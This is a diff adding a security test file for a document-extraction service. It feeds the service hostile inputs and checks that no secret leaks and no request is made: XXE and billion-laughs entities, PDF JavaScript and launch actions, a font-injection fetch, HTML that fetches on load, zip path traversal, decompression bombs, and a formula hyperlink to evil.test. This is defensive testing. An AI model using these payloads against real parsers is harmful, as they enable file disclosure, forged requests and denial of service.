@@ -1,0 +1,221 @@
+/** Documents that were made to do harm, in the real process: what becomes of each, and that the next one is read. */
+import { createServer, type Server } from 'node:http';
+import { once } from 'node:events';
+import type { AddressInfo } from 'node:net';
+import { Readable } from 'node:stream';
+import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { pathToFileURL } from 'node:url';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { AppError } from '../app-error.ts';
+import { zipOf } from '../testing/office-files.ts';
+import { startExtraction } from './extraction.ts';
+import { swollenDocument, workbookOf } from './testing/documents.ts';
+import { withCrossReferences } from './testing/pdf-file.ts';
+
+const extraction = startExtraction();
+const secret = 'the-content-of-another-file';
+const folder = mkdtempSync(`${tmpdir()}/polylogue-hostile-`);
+const secretFile = pathToFileURL(`${folder}/secret.txt`).href;
+
+/** Notes whoever is led to it; nobody may be. */
+const asked: string[] = [];
+let canary: Server;
+let outside: string;
+
+beforeAll(async () => {
+  writeFileSync(`${folder}/secret.txt`, secret);
+  canary = createServer((request, response) => {
+    asked.push(request.url ?? '');
+    response.end(secret);
+  }).listen(0, '127.0.0.1');
+  await once(canary, 'listening');
+  outside = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
+});
+afterAll(async () => {
+  await extraction.stop();
+  canary.close();
+  rmSync(folder, { recursive: true });
+});
+
+/** The text that is read, or the code of the refusal. */
+async function readingOf(name: string, content: Buffer | string, mediaType = 'text/plain'): Promise<string> {
+  const open = async () => Readable.from([Buffer.from(content)]);
+  try {
+    return (await extraction.extract(open, { name, mediaType })).text;
+  } catch (error) {
+    if (error instanceof AppError) return error.code;
+    throw error;
+  }
+}
+
+const office = 'application/vnd.openxmlformats-officedocument';
+const types = {
+  docx: `${office}.wordprocessingml.document`,
+  xlsx: `${office}.spreadsheetml.sheet`,
+  pptx: `${office}.presentationml.presentation`,
+  odt: 'application/vnd.oasis.opendocument.text',
+  epub: 'application/epub+zip',
+};
+
+const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+const wordOf = (text: string, head = '') =>
+  zipOf({
+    '[Content_Types].xml':
+      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+    '_rels/.rels':
+      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
+    'word/document.xml': `${head}<w:document xmlns:w="${word}"><w:body><w:p><w:r><w:t>Leave: ${text}</w:t></w:r></w:p></w:body></w:document>`,
+  });
+const openDocumentOf = (text: string, head = '') =>
+  zipOf({
+    mimetype: types.odt,
+    'content.xml': `${head}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>Leave: ${text}</text:p></office:text></office:body></office:document-content>`,
+  });
+const bookOf = (text: string, head = '') =>
+  zipOf({
+    mimetype: types.epub,
+    'META-INF/container.xml':
+      '<container><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
+    'book.opf':
+      '<package><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>',
+    'a.xhtml': `${head}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Leave: ${text}</p></body></html>`,
+  });
+const documents = { docx: wordOf, odt: openDocumentOf, epub: bookOf };
+const kinds = ['docx', 'odt', 'epub'] as const;
+
+describe('markup that names something else', () => {
+  it.each(kinds)('reads neither a file nor an address for %s', async (kind) => {
+    for (const address of [secretFile, `${outside}/entity`]) {
+      const head = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "${address}"><!ENTITY % p SYSTEM "${address}"> %p;]>`;
+      const read = await readingOf(`leave.${kind}`, documents[kind]('&e;', head), types[kind]);
+      expect(read).not.toContain(secret);
+    }
+    expect(asked).toEqual([]);
+  });
+
+  it.each(kinds)('does not let entities multiply in %s', async (kind) => {
+    const names = 'abcdefghij'.split('');
+    const entities = names.map(
+      (name, index) => `<!ENTITY ${name} "${index === 0 ? 'lol' : `&${names[index - 1]};`.repeat(10)}">`,
+    );
+    const read = await readingOf(
+      `leave.${kind}`,
+      documents[kind]('&j;', `<?xml version="1.0"?><!DOCTYPE d [${entities.join('')}]>`),
+      types[kind],
+    );
+    expect(read.length).toBeLessThan(10_000);
+  });
+
+  it('fetches nothing for a page', async () => {
+    const page = [
+      `<meta http-equiv="refresh" content="0;url=${outside}/refresh"><base href="${outside}/"><link rel="stylesheet" href="a.css">`,
+      `<style>@import "${outside}/import"; @font-face { font-family: f; src: url(${outside}/font) }</style>`,
+      `<h1 onclick="fetch('${outside}/click')">Leave</h1><p>27 days</p><img src="${outside}/picture" srcset="${outside}/two 2x">`,
+      `<iframe src="${outside}/frame"></iframe><object data="${outside}/object"></object><svg><image href="${secretFile}"/></svg>`,
+    ].join('\n');
+    const read = await readingOf('leave.html', page);
+    expect(read).toContain('27 days');
+    expect(read).not.toMatch(/refresh|onclick|import|font|127\.0\.0\.1/);
+    expect(asked).toEqual([]);
+  });
+});
+
+describe('a PDF that acts', () => {
+  it('is read, and does nothing', async () => {
+    const script = `(app.launchURL\\("${outside}/script"\\); this.submitForm\\("${outside}/form"\\);)`;
+    const content = 'BT /F 12 Tf 50 700 Td (Everybody has 27 days of leave.) Tj ET';
+    const pdf = withCrossReferences([
+      `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> /AcroForm << /Fields [7 0 R] /XFA (<x>${outside}/xfa</x>) >> >>`,
+      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
+      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 3 0 R >> >> /Contents 5 0 R /Annots [7 0 R 8 0 R] >>',
+      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
+      `<< /S /JavaScript /JS ${script} >>`,
+      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (x) /Rect [0 0 1 1] /A 6 0 R >>',
+      `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (${folder}/secret.txt) >> >>`,
+    ]);
+    const read = await readingOf('leave.pdf', pdf, 'application/pdf');
+    expect(read).toContain('Everybody has 27 days of leave.');
+    expect(read).not.toMatch(/launchURL|submitForm|another-file/);
+    expect(asked).toEqual([]);
+  });
+
+  it('whose font asks for code is read without running it', async () => {
+    const content = 'BT /F 12 Tf 50 700 Td (Bikes stand in the yard.) Tj ET';
+    const pdf = withCrossReferences([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
+      `<< /Type /Font /Subtype /Type1 /BaseFont /X /FirstChar 0 /LastChar 1 /Widths [1 1] /FontMatrix [1 2 3 4 5 (0\\); fetch\\('${outside}/font'\\)//)] >>`,
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 3 0 R >> >> /Contents 5 0 R >>',
+      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
+    ]);
+    expect(await readingOf('bikes.pdf', pdf, 'application/pdf')).toContain('Bikes stand in the yard.');
+    expect(asked).toEqual([]);
+  });
+
+  it('whose pages are each their own parent comes to an end', async () => {
+    const pdf = withCrossReferences([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 /Parent 2 0 R >>',
+    ]);
+    expect(await readingOf('loop.pdf', pdf, 'application/pdf')).toMatch(
+      /^file\.(unreadable|too_complex|no_text)$/,
+    );
+  }, 60_000);
+});
+
+describe('what is too much', () => {
+  it.each([
+    ['pages in pages', 'deep.html', `${'<div>'.repeat(200_000)}end`],
+    ['quotes in quotes', 'deep.md', `${'>'.repeat(200_000)} end`],
+    ['a table of one row of very many columns', 'wide.csv', `${'a,'.repeat(1_000_000)}end`],
+    ['a line of ten million characters', 'long.txt', 'word '.repeat(2_000_000)],
+  ])(
+    '%s is read or refused, and the next one is read',
+    async (_what, name, content) => {
+      const read = await readingOf(name, content);
+      expect(read.startsWith('file.') ? read : 'read').toMatch(/^(read|file\.(too_complex|unreadable))$/);
+      expect(await readingOf('notes.txt', 'Hello')).toBe('Hello');
+    },
+    120_000,
+  );
+
+  it('mails in mails are read as far as the first', async () => {
+    let mail = 'Subject: deepest\r\n\r\nNobody reads me.';
+    for (let depth = 0; depth < 200; depth += 1) {
+      mail = `Subject: ${depth}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b${depth}\r\n\r\n--b${depth}\r\n\r\nLetter ${depth}.\r\n--b${depth}\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=inner.eml\r\n\r\n${mail}\r\n--b${depth}--`;
+    }
+    const read = await readingOf('outer.eml', mail);
+    expect(read).toContain('Letter 199.');
+    expect(read).not.toContain('Nobody reads me.');
+  }, 60_000);
+
+  it('a bomb that is attached to a mail keeps nobody from reading the mail', async () => {
+    const bomb = (await swollenDocument(120_000_000)).toString('base64');
+    const mail = `Subject: Lunch\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nLunch is at noon.\r\n--x\r\nContent-Type: ${types.docx}; name=menu.docx\r\nContent-Disposition: attachment; filename=menu.docx\r\nContent-Transfer-Encoding: base64\r\n\r\n${bomb}\r\n--x--`;
+    expect(await readingOf('lunch.eml', mail)).toContain('Lunch is at noon.');
+  }, 60_000);
+});
+
+describe('parts of an archive', () => {
+  it('that climb out of it are written nowhere', async () => {
+    const climbing = zipOf({
+      '[Content_Types].xml': '<Types/>',
+      [`../../../../../..${folder}/climbed.txt`]: secret,
+      'word/document.xml': '<w:document/>',
+    });
+    expect(await readingOf('climb.docx', climbing, types.docx)).toMatch(/^file\.(unreadable|no_text)$/);
+    expect(readdirSync(folder)).toEqual(['secret.txt']);
+  });
+
+  it('that are formulas stay texts', async () => {
+    const workbook = await workbookOf({
+      Prices: [
+        ['Name', 'Price'],
+        ['=HYPERLINK(&quot;http://evil.test&quot;)', '@SUM(1)'],
+      ],
+    });
+    expect(await readingOf('prices.xlsx', workbook, types.xlsx)).toContain('@SUM(1)');
+  });
+});
